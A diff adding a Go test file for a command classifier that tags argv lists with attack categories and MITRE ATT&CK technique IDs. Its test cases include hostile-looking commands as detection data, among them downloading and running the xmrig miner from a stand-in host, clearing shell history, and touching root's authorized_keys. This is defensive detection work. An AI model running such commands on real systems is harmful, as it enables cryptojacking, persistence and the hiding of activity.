@@ -0,0 +1,125 @@
+package classify
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestBuiltinRules(t *testing.T) {
+	// Will panic() on failure because it should never happen at runtime.
+	assert.NotEmpty(t, BuiltinRules())
+}
+
+func TestDefault(t *testing.T) {
+	cases := map[string]struct {
+		argv           []string
+		wantCategories []string
+		wantTechniques []string
+	}{
+		"empty": {
+			argv: nil,
+		},
+		"unknown": {
+			argv: []string{"frobnicate", "--all"},
+		},
+		"uname": {
+			argv:           []string{"uname", "-a"},
+			wantCategories: []string{"discovery"},
+			wantTechniques: []string{"T1082"},
+		},
+		"cpuinfo": {
+			argv:           []string{"/bin/cat", "/proc/cpuinfo"},
+			wantCategories: []string{"discovery"},
+			wantTechniques: []string{"T1082"},
+		},
+		"crontab": {
+			argv:           []string{"crontab", "-l"},
+			wantCategories: []string{"persistence"},
+			wantTechniques: []string{"T1053.003"},
+		},
+		"authorized-keys": {
+			argv:           []string{"chmod", "600", "/root/.ssh/authorized_keys"},
+			wantCategories: []string{"persistence"},
+			wantTechniques: []string{"T1098.004"},
+		},
+		"chattr": {
+			argv:           []string{"chattr", "+i", "/tmp/x"},
+			wantCategories: []string{"defense-evasion"},
+			wantTechniques: []string{"T1222.002"},
+		},
+		"history": {
+			argv:           []string{"history", "-c"},
+			wantCategories: []string{"defense-evasion"},
+			wantTechniques: []string{"T1070.003"},
+		},
+		"miner": {
+			argv:           []string{"./xmrig", "-o", "stratum+tcp://pool.example:3333"},
+			wantCategories: []string{"impact", "miner"},
+			wantTechniques: []string{"T1496"},
+		},
+		"multiple": {
+			argv:           []string{"wget", "http://example.com/xmrig"},
+			wantCategories: []string{"command-and-control", "impact", "miner"},
+			wantTechniques: []string{"T1105", "T1496"},
+		},
+	}
+
+	classifier := Default()
+	for tn, tc := range cases {
+		t.Run(tn, func(t *testing.T) {
+			got := classifier.Classify(tc.argv)
+
+			assert.Equal(t, tc.wantCategories, got.Categories)
+			assert.Equal(t, tc.wantTechniques, got.Techniques)
+		})
+	}
+}
+
+func TestParseRules(t *testing.T) {
+	cases := map[string]struct {
+		rules   string
+		wantErr bool
+	}{
+		"valid": {
+			rules: `
+- name: custom
+  commands: [foo]
+  categories: [custom]`,
+		},
+		"missing-name": {
+			rules: `
+- commands: [foo]`,
+			wantErr: true,
+		},
+		"missing-matcher": {
+			rules: `
+- name: custom
+  categories: [custom]`,
+			wantErr: true,
+		},
+		"unknown-field": {
+			rules: `
+- name: custom
+  commands: [foo]
+  tactic: bar`,
+			wantErr: true,
+		},
+	}
+
+	for tn, tc := range cases {
+		t.Run(tn, func(t *testing.T) {
+			_, err := ParseRules([]byte(tc.rules))
+			if tc.wantErr {
+				assert.Error(t, err)
+			} else {
+				assert.NoError(t, err)
+			}
+		})
+	}
+}
+
+func TestNew_badPattern(t *testing.T) {
+	_, err := New([]Rule{{Name: "bad", Pattern: "("}})
+	assert.Error(t, err)
+}